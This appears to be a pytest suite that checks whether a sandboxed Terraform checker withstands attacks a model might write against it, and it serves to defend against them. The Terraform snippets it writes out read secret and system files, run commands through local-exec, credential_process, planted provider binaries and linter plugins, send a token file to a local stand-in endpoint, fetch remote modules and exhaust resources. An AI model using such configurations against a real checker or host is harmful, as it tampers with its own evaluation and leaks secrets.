"""What a model may write to get at its checker, planted with harmless markers, with the real terraform.

Each attack runs against the checker as it is, and once more with staging's names and the scan switched off,
so that the sandbox has to hold alone. Where terraform would do what is asked, a third run without the sandbox
shows that the marker works.
"""

import contextlib
import json
import os
import re
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from checker_fakes import HEAD

from toolkit.checker import inprocess, staging
from toolkit.checker.inprocess import InProcessChecker
from toolkit.checker.process import Finished
from toolkit.checker.reaper import descendants
from toolkit.checker.sandbox import level
from toolkit.checker.staging import read_tree
from toolkit.contracts import CheckReport, Tree
from toolkit.errors import UsageError

SECRET = "s3cr3t-marker"
ENCODED = ("czNjcjN0LW1hcmtlcg", "60b192520f573a54b060918976d7821c")  # base64 and MD5 of it
BOTH = ("fmt", "validate")

# A module outside of every tree, which says its secret to who calls it.
MODULE = f"""variable "x" {{
  validation {{
    condition     = var.x == 2
    error_message = "It is {SECRET}."
  }}
}}
"""

landlocked = pytest.mark.skipif(not level().confines_reads, reason="this kernel has no Landlock")
full = pytest.mark.skipif(level().name != "landlock+seccomp", reason="needs Landlock and seccomp")


class Outside(NamedTuple):
    """What an attack is after: a file with a secret, a mark to be left, a port to be contacted."""

    folder: Path
    port: int
    said: bytearray

    @property
    def secret(self) -> Path:
        return self.folder / "secret.txt"

    @property
    def mark(self) -> Path:
        return self.folder / "mark"

    @property
    def touched(self) -> bool:
        """Whether code ran, or anything was sent."""
        return self.mark.exists() or bool(self.said)


def heard(connection: socket.socket) -> bytes:
    """A whole request: its body may come in a packet of its own."""
    data = connection.recv(65536)
    head, _, body = data.partition(b"\r\n\r\n")
    length = re.search(rb"(?i)content-length: (\d+)", head)
    while length and len(body) < int(length[1]) and (more := connection.recv(65536)):
        data, body = data + more, body + more
    return data


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Outside]:
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "secret.txt").write_text(SECRET)
    (folder / f"{SECRET}-name").touch()
    (folder / "main.tf").write_text(MODULE)
    said = bytearray()
    server = socket.create_server(("127.0.0.1", 0))

    def listen() -> None:
        while True:
            try:
                connection = server.accept()[0]
            except OSError:
                return
            with connection, contextlib.suppress(OSError):
                said.extend(b"contacted ")
                connection.settimeout(5)
                said.extend(heard(connection))
                connection.sendall(
                    b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                )

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    yield Outside(folder, server.getsockname()[1], said)
    server.shutdown(socket.SHUT_RDWR)
    server.close()
    thread.join(10)


@pytest.fixture
def sandbox_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """No rule for names, no scan; and all that is staged may be executed, as far as file modes go."""

    def careless(tree: Tree, root: Path, own: frozenset[str] = frozenset()) -> list[object]:
        staging.stage(tree, root, own)
        for path in root.rglob("*"):
            path.chmod(0o755)
        return []

    monkeypatch.setattr(staging, "stage_findings", lambda *_: [])
    monkeypatch.setattr(inprocess, "stage_findings", lambda *_: [])
    monkeypatch.setattr(inprocess, "scan", lambda *_, **__: [])
    monkeypatch.setattr(inprocess, "stage", careless)


def tree_of(files: dict[str, str]) -> Tree:
    return Tree(files={path: text.encode() for path, text in files.items()})


def check(files: dict[str, str], tmp_path: Path, **options: bool) -> CheckReport:
    options.setdefault("unsandboxed", not level().confines)
    checker = InProcessChecker(tmp_path / "work", init_timeout_s=60, **options)
    try:
        return checker.check(tree_of(files), BOTH)
    finally:
        checker.close()


def leaked(report: CheckReport) -> bool:
    return any(mark in repr(report) for mark in (SECRET, *ENCODED))


def shown(expression: str) -> dict[str, str]:
    """A program whose error prints the value of an expression."""
    return {"main.tf": f'output "x" {{\n  value = tonumber({expression})\n}}\n'}


# Rows of FACTS §6: what validate prints. In each, terraform would print a file of the host.
READS: dict[str, Callable[[Outside], dict[str, str]]] = {
    "file": lambda o: shown(f'file("{o.secret}")'),
    "file up the tree": lambda o: shown(f'file("${{path.module}}{"/.." * 20}{o.secret}")'),
    "filebase64": lambda o: shown(f'filebase64("{o.secret}")'),
    "filemd5": lambda o: shown(f'filemd5("{o.secret}")'),
    "templatefile": lambda o: shown(f'templatefile("{o.secret}", {{}})'),
    "fileset": lambda o: shown(f'join(",", fileset("{o.folder}", "*"))'),
    "in a heredoc": lambda o: shown(f'<<-EOT\n    x ${{file("{o.secret}")}}\n  EOT\n  '),
    "in a template": lambda o: {
        **shown('templatefile("${path.module}/x.tftpl", {})'),
        "x.tftpl": f'${{file("{o.secret}")}}',
    },
    "as a value that must be one of some": lambda o: {
        "main.tf": (
            HEAD + 'resource "aws_s3_bucket_versioning" "x" {\n  bucket = "x"\n'
            f'  versioning_configuration {{\n    status = file("{o.secret}")\n  }}\n}}\n'
        )
    },
    "in JSON": lambda o: {
        "main.tf.json": json.dumps({"output": {"x": {"value": f'${{tonumber(file("{o.secret}"))}}'}}})
    },
    "a module above": lambda o: {
        "main.tf": (
            f'module "m" {{\n  source = "{"../" * 20}{str(o.folder).removeprefix("/")}"\n  x      = 1\n}}\n'
        )
    },
}

# The same, with paths that only an evaluation tells: the scan leaves them to Landlock.
COMPUTED: dict[str, Callable[[Outside], dict[str, str]]] = {
    "a path in a local": lambda o: {
        "main.tf": (
            f'locals {{\n  p = join("/", ["{o.folder}", "secret.txt"])\n}}\n\n'
            'output "x" {\n  value = tonumber(file(local.p))\n}\n'
        )
    },
    "a path behind a name": lambda o: {
        "main.tf": (
            f'locals {{\n  up = "{"../" * 20}{str(o.secret).removeprefix("/")}"\n}}\n\n'
            'output "x" {\n  value = tonumber(file("${path.module}/${local.up}"))\n}\n'
        )
    },
    "a computed template": lambda o: {
        "main.tf": (
            'locals {\n  t = "x.tftpl"\n}\n\n'
            'output "x" {\n  value = tonumber(templatefile("${path.module}/${local.t}", {}))\n}\n'
        ),
        "x.tftpl": f'${{file("{o.secret}")}}',
    },
    "a computed folder": lambda o: {
        "main.tf": (
            f'locals {{\n  d = "{o.folder}"\n}}\n\n'
            'output "x" {\n  value = tonumber(join(",", fileset(local.d, "*")))\n}\n'
        )
    },
}

ENVIRON = {
    "its own environment": "/proc/self/environ",
    "its command line": "/proc/self/cmdline",
    "the environment of whoever checks": f"/proc/{os.getpid()}/environ",
    "the accounts of the machine": "/etc/passwd",
}


def provider(path: str, mark: Path) -> dict[str, str]:
    """A program in the place of the provider's executable."""
    name = "terraform-provider-aws_v5.100.0_x5"
    folder = f"{path}/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64"
    return {f"{folder}/{name}": f"#!/bin/sh\n/usr/bin/touch {mark}\n"}


def lock() -> str:
    return 'provider "registry.terraform.io/hashicorp/aws" {\n  version = "5.100.0"\n}\n'


def backend(text: str) -> dict[str, str]:
    return {"main.tf": HEAD + BUCKET, "backend.tf": f"terraform {{\n{text}\n}}\n"}


PLAIN = 'output "y" {\n  value = 1\n}\n'
BUCKET = '\nresource "aws_s3_bucket" "this" {\n  bucket = "example"\n}\n'
REMOTE_STATE = (
    'data "terraform_remote_state" "x" {{\n  backend = "http"\n  config = {{\n    address = "{}"\n  }}\n}}\n'
)

# Rows of FACTS §6 and bullets of §4: what runs code, reaches out, or makes checkers see something else.
PLANTED: dict[str, Callable[[Outside], dict[str, str]]] = {
    "data external": lambda o: {
        "main.tf": f'data "external" "x" {{\n  program = ["/usr/bin/touch", "{o.mark}"]\n}}\n'
    },
    "local-exec": lambda o: {
        "main.tf": (
            'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n'
            f'    command = "/usr/bin/touch {o.mark}"\n  }}\n}}\n'
        )
    },
    "remote state": lambda o: {"main.tf": REMOTE_STATE.format(f"http://127.0.0.1:{o.port}")},
    "provider with a program": lambda o: {
        "main.tf": HEAD + BUCKET + '\nprovider "aws" {\n  shared_config_files = ["aws.txt"]\n}\n',
        "aws.txt": f"[default]\ncredential_process = /usr/bin/touch {o.mark}\n",
    },
    "provider with endpoints": lambda o: {
        "main.tf": (
            HEAD + BUCKET + '\nprovider "aws" {\n  endpoints {\n'
            f'    sts = "http://127.0.0.1:{o.port}"\n  }}\n}}\n'
        )
    },
    "provider with a token file": lambda o: {
        "main.tf": (
            HEAD + BUCKET + '\nprovider "aws" {\n  assume_role_with_web_identity {\n    role_arn = '
            f'"arn:aws:iam::123456789012:role/x"\n    web_identity_token_file = "{o.secret}"\n  }}\n}}\n'
        )
    },
    "data folder": lambda o: {
        "main.tf": HEAD + BUCKET,
        **provider(".terraform/providers", o.mark),
        ".terraform.lock.hcl": lock(),
        ".terraform/modules/modules.json": json.dumps(
            {"Modules": [{"Key": "", "Source": "", "Dir": "."}, {"Key": "m", "Dir": str(o.folder)}]}
        ),
        ".terraform/terraform.tfstate": json.dumps(
            {"version": 3, "backend": {"type": "http", "config": {"address": f"http://127.0.0.1:{o.port}"}}}
        ),
    },
    "plugins of the working folder": lambda o: {
        "main.tf": HEAD + BUCKET,
        **provider("terraform.d/plugins", o.mark),
    },
    "CLI configuration": lambda o: {
        "main.tf": HEAD + BUCKET,
        ".terraformrc": 'provider_installation {\n  filesystem_mirror {\n    path = "./mirror"\n  }\n}\n',
        "terraform.rc": 'provider_installation {\n  filesystem_mirror {\n    path = "./mirror"\n  }\n}\n',
        **provider("mirror", o.mark),
    },
    "module by git": lambda o: {
        "main.tf": f'module "m" {{\n  source = "git::http://127.0.0.1:{o.port}/x"\n}}\n'
    },
    "module by ssh": lambda o: {
        "main.tf": f'module "m" {{\n  source = "git::ssh://git@127.0.0.1:{o.port}/x"\n}}\n'
    },
    "module by http": lambda o: {
        "main.tf": f'module "m" {{\n  source = "http://127.0.0.1:{o.port}/x.zip"\n}}\n'
    },
    "module by s3": lambda o: {
        "main.tf": f'module "m" {{\n  source = "s3::http://127.0.0.1:{o.port}/b/x.zip"\n}}\n'
    },
    "module by an absolute path": lambda o: {"main.tf": f'module "m" {{\n  source = "{o.folder}"\n}}\n'},
    "module of another registry": lambda o: {
        "main.tf": f'module "m" {{\n  source = "localhost:{o.port}/a/b/c"\n}}\n'
    },
    "override file": lambda o: {"main.tf": PLAIN, "x_override.tf": 'output "x" {\n  value = 1\n}\n'},
    "variable values": lambda o: {"main.tf": PLAIN, "x.auto.tfvars": 'x = "y"\n'},
    "more variable values": lambda o: {"main.tf": PLAIN, "terraform.tfvars": 'x = "y"\n'},
    "OpenTofu's file": lambda o: {"main.tf": PLAIN, "main.tofu": PLAIN},
    "a test": lambda o: {
        "main.tf": PLAIN,
        "x.tftest.hcl": f'run "x" {{\n  module {{\n    source = "http://127.0.0.1:{o.port}/x"\n  }}\n}}\n',
    },
    "a linter's configuration": lambda o: {
        "main.tf": PLAIN,
        ".tflint.hcl": 'config {\n  plugin_dir = "./plugins"\n}\n',
        ".tflint.d/plugins/tflint-ruleset-x": f"#!/bin/sh\n/usr/bin/touch {o.mark}\n",
    },
    "a linter's code": lambda o: {
        "main.tf": PLAIN,
        ".checkov.yaml": "external-checks-dir: ./checks\nsoft-fail: true\n",
        "checks/__init__.py": f"open({str(o.mark)!r}, 'w')\n",
    },
}

# Backends are legitimate, so these trees may pass: what they say is void.
VOID: dict[str, Callable[[Outside], dict[str, str]]] = {
    "s3 backend with a program": lambda o: {
        **backend(
            '  backend "s3" {\n    bucket = "x"\n    key = "x"\n    region = "eu-central-1"\n'
            '    shared_config_files = ["aws.txt"]\n  }'
        ),
        "aws.txt": f"[default]\ncredential_process = /usr/bin/touch {o.mark}\n",
    },
    "s3 backend that posts a file": lambda o: backend(
        '  backend "s3" {\n    bucket = "x"\n    key = "x"\n    region = "eu-central-1"\n'
        '    assume_role_with_web_identity = {\n      role_arn = "arn:aws:iam::123456789012:role/x"\n'
        f'      web_identity_token_file = "{o.secret}"\n    }}\n'
        f'    endpoints = {{\n      sts = "http://127.0.0.1:{o.port}"\n    }}\n  }}'
    ),
    "http backend": lambda o: backend(
        f'  backend "http" {{\n    address = "http://127.0.0.1:{o.port}"\n  }}'
    ),
    "cloud": lambda o: backend(
        f'  cloud {{\n    hostname = "localhost:{o.port}"\n    organization = "x"\n'
        '    workspaces {\n      name = "x"\n    }\n  }'
    ),
}


@pytest.mark.parametrize("attack", [*READS.values(), *PLANTED.values()], ids=[*READS, *PLANTED])
def test_it_is_refused_before_any_tool_sees_it(
    attack: Callable[[Outside], dict[str, str]], outside: Outside, tmp_path: Path
) -> None:
    report = check(attack(outside), tmp_path)
    assert not report.clean
    assert {r.validator for r in report.results} <= {"staging", "scan"}
    assert all(f.message and f.severity == "high" for f in report.findings)
    assert {s.validator for s in report.skipped} >= set(BOTH)
    assert not leaked(report)
    assert not outside.touched


@full
@pytest.mark.usefixtures("sandbox_alone")
@pytest.mark.parametrize(
    "attack",
    [*READS.values(), *COMPUTED.values(), *PLANTED.values(), *VOID.values()],
    ids=[*READS, *COMPUTED, *PLANTED, *VOID],
)
def test_the_sandbox_alone_holds_it(
    attack: Callable[[Outside], dict[str, str]], outside: Outside, tmp_path: Path
) -> None:
    report = check(attack(outside), tmp_path)
    assert "validate" in {r.validator for r in report.results}
    assert not leaked(report)
    assert not outside.touched


@landlocked
@pytest.mark.parametrize("attack", COMPUTED.values(), ids=COMPUTED)
def test_what_the_scan_cannot_decide_is_found_by_the_sandbox(
    attack: Callable[[Outside], dict[str, str]], outside: Outside, tmp_path: Path
) -> None:
    report = check(attack(outside), tmp_path)
    assert {r.validator: r.status for r in report.results}["validate"] == "findings"
    assert not leaked(report)


@pytest.mark.parametrize("attack", COMPUTED.values(), ids=COMPUTED)
def test_without_landlock_the_scan_refuses_what_it_cannot_decide(
    attack: Callable[[Outside], dict[str, str]], outside: Outside, tmp_path: Path
) -> None:
    report = check(attack(outside), tmp_path, unsandboxed=True)
    assert [(r.validator, r.status) for r in report.results] == [("scan", "findings")]
    assert "without Landlock" in report.findings[0].message


@pytest.mark.usefixtures("sandbox_alone")
@pytest.mark.parametrize("attack", [*READS.values(), *COMPUTED.values()], ids=[*READS, *COMPUTED])
def test_without_sandbox_and_scan_terraform_would_print_it(
    attack: Callable[[Outside], dict[str, str]], outside: Outside, tmp_path: Path
) -> None:
    assert leaked(check(attack(outside), tmp_path, unsandboxed=True))


@pytest.mark.usefixtures("sandbox_alone")
def test_without_sandbox_and_scan_terraform_would_reach_out(outside: Outside, tmp_path: Path) -> None:
    check(PLANTED["module by http"](outside), tmp_path, unsandboxed=True)
    assert outside.said


@landlocked
@pytest.mark.usefixtures("sandbox_alone")
@pytest.mark.parametrize("path", ENVIRON.values(), ids=ENVIRON)
def test_nothing_of_the_machine_is_read(path: str, tmp_path: Path) -> None:
    report = check(shown(f'file("{path}")'), tmp_path)
    (found,) = [f for f in report.findings if f.validator == "validate"]
    assert "permission denied" in found.message
    assert (
        "cannot convert" in check(shown(f'file("{path}")'), tmp_path, unsandboxed=True).findings[-1].message
    )


@pytest.mark.parametrize("attack", VOID.values(), ids=VOID)
def test_a_planted_backend_is_void(
    attack: Callable[[Outside], dict[str, str]], outside: Outside, tmp_path: Path
) -> None:
    report = check(attack(outside), tmp_path)
    assert {r.validator: r.status for r in report.results}["validate"] == "ok", report.findings
    assert not leaked(report)
    assert not outside.touched


def test_a_provider_of_another_registry_is_not_asked_for(outside: Outside, tmp_path: Path) -> None:
    source = f"localhost:{outside.port}/hashicorp/aws"
    report = check({"main.tf": HEAD.replace("hashicorp/aws", source) + BUCKET}, tmp_path)
    assert {r.validator: r.status for r in report.results}["validate"] == "findings"
    assert not outside.touched


def test_all_at_once_yields_an_honest_result(outside: Outside, tmp_path: Path) -> None:
    report = check(together(outside), tmp_path)
    assert not report.clean
    assert {r.validator for r in report.results} == {"staging"}
    plain = {path: text for path, text in together(outside).items() if staging.path_problem(path) is None}
    report = check(plain, tmp_path)
    assert not report.clean
    assert {"external", "provisioner", "remote-state", "module-source", "file-path", "provider-setting"} <= {
        finding.rule for finding in report.findings
    }
    assert not leaked(report)
    assert not outside.touched


@full
@pytest.mark.usefixtures("sandbox_alone")
def test_all_at_once_are_held_by_the_sandbox_alone(outside: Outside, tmp_path: Path) -> None:
    report = check(together(outside), tmp_path)
    assert not report.clean
    assert {r.validator for r in report.results} == set(BOTH)
    assert not leaked(report)
    assert not outside.touched


def together(outside: Outside) -> dict[str, str]:
    """Every attack in one tree: the planted files as they are, the programs side by side."""
    files: dict[str, str] = {}
    for n, attack in enumerate([*READS.values(), *COMPUTED.values(), *PLANTED.values(), *VOID.values()]):
        for path, text in attack(outside).items():
            files[f"a{n}_{path}" if path in ("main.tf", "main.tf.json", "backend.tf") else path] = text
    return files


def plan(files: dict[str, str], tmp_path: Path, *, unsandboxed: bool) -> Finished:
    """`terraform plan`, which no check runs: it evaluates providers and data sources as well."""
    checker = InProcessChecker(tmp_path / "work", unsandboxed=unsandboxed)
    tree = tree_of(files)
    try:
        assert checker.init(tree).status == "ok"
        terraform = checker._terraform(tree)
        (terraform.root / staging.OVERRIDE_NAME).unlink()  # a backend would want an init of its own
        return terraform._run(["plan", "-input=false", "-lock=false", "-no-color"], 120)
    finally:
        checker.close()


AT_PLAN = {
    "remote state": (PLANTED["remote state"], b"contacted"),
    "a token file": (
        lambda o: {
            "main.tf": (
                HEAD + 'provider "aws" {\n  region = "eu-central-1"\n  max_retries = 1\n'
                "  skip_metadata_api_check = true\n  assume_role_with_web_identity {\n"
                '    role_arn = "arn:aws:iam::123456789012:role/x"\n'
                f'    web_identity_token_file = "{o.secret}"\n'
                f'  }}\n  endpoints {{\n    sts = "http://127.0.0.1:{o.port}"\n  }}\n}}\n'
                'data "aws_caller_identity" "x" {}\n'
            )
        },
        SECRET.encode(),
    ),
}


@full
@pytest.mark.usefixtures("sandbox_alone")
@pytest.mark.parametrize(("attack", "sent"), AT_PLAN.values(), ids=AT_PLAN)
def test_even_a_plan_sends_nothing(
    attack: Callable[[Outside], dict[str, str]], sent: bytes, outside: Outside, tmp_path: Path
) -> None:
    assert plan(attack(outside), tmp_path, unsandboxed=False).code != 0
    assert not outside.touched
    plan(attack(outside), tmp_path, unsandboxed=True)
    assert sent in outside.said


def doubling(times: int) -> str:
    rows = [f'  a{n} = "${{local.a{n - 1}}}${{local.a{n - 1}}}"' for n in range(1, times)]
    text = '  a0 = "0123456789abcdef"\n' + "\n".join(rows)
    return f'locals {{\n{text}\n}}\n\noutput "x" {{\n  value = local.a{times - 1}\n}}\n'


BURNS = {
    "nested for": (
        'output "x" {\n  value = [for a in range(1000) : '
        "[for b in range(1000) : [for c in range(1000) : a]]]\n}\n"
    ),
    "doubling": doubling(40),
    "parentheses": 'output "x" {\n  value = ' + "(" * 450_000 + "1" + ")" * 450_000 + "\n}\n",
    "an endless file": 'locals {\n  p = "/dev/zero"\n}\n\noutput "x" {\n  value = file(local.p)\n}\n',
    "many tokens": 'output "x" {\n  value = ' + "!" * 900_000 + "true\n}\n",
    "a large file": "# " + "x" * (2 * 1024 * 1024),
}


@landlocked
@pytest.mark.parametrize("text", BURNS.values(), ids=BURNS)
def test_what_burns_the_machine_ends_and_leaves_nothing_running(
    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Two GiB instead of three, for the machine that the tests run on.
    monkeypatch.setattr("toolkit.checker.process.ADDRESS_SPACE", 2 * 1024**3)
    before = descendants()
    checker = InProcessChecker(tmp_path / "work", init_timeout_s=20, validator_timeout_s=10)
    report = checker.check(tree_of({"main.tf": text}), BOTH)
    checker.close()
    assert not report.clean
    assert descendants() <= before


def test_a_symlink_is_never_followed(tmp_path: Path, outside: Outside) -> None:
    for name in ("main.tf", "m"):
        folder = tmp_path / f"of-{name}"
        folder.mkdir()
        (folder / name).symlink_to(outside.secret if name == "main.tf" else outside.folder)
        with pytest.raises(UsageError, match=name):
            read_tree(folder, left_out=[])
